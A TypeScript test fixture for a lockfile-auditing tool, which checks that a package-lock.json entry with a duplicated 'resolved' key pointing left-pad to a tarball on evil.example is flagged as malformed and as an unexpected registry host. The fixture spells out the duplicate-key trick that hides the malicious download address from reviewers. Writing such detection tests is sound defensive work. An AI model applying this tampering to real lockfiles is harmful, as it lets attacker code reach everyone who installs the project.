import type { Replay } from '../replay.js'

/** A second `resolved` after the first: JSON takes the last one, a person reads the first one. */
const withTwin = (lockfile: string): string =>
  lockfile.replace(/("resolved": ")([^"]*)(",)/, '$1$2$3\n      $1https://evil.example/left-pad/-/left-pad-1.0.1.tgz$3')

export const replay: Replay = {
  description:
    'One entry holds `resolved` twice. Whoever reads the diff sees the registry’s address; JSON parsers take the last one.',
  packages: { 'left-pad': { '1.0.0': {}, '1.0.1': {} } },
  base: { manifest: { dependencies: { 'left-pad': '^1.0.0' } }, locked: { 'left-pad': '1.0.0' } },
  head: {
    manifest: { dependencies: { 'left-pad': '^1.0.0' } },
    locked: { 'left-pad': '1.0.1' },
    tamper: withTwin,
  },
  expected: {
    verdict: 'flagged',
    findings: [
      {
        rule: 'lockfile-entry-malformed',
        severity: 'high',
        file: 'package-lock.json',
        line: '"resolved": "https://evil.example/left-pad/-/left-pad-1.0.1.tgz",',
      },
      {
        rule: 'registry-host-unexpected',
        severity: 'high',
        package: 'left-pad',
        file: 'package-lock.json',
        line: '"resolved": "https://evil.example/left-pad/-/left-pad-1.0.1.tgz",',
      },
    ],
  },
}
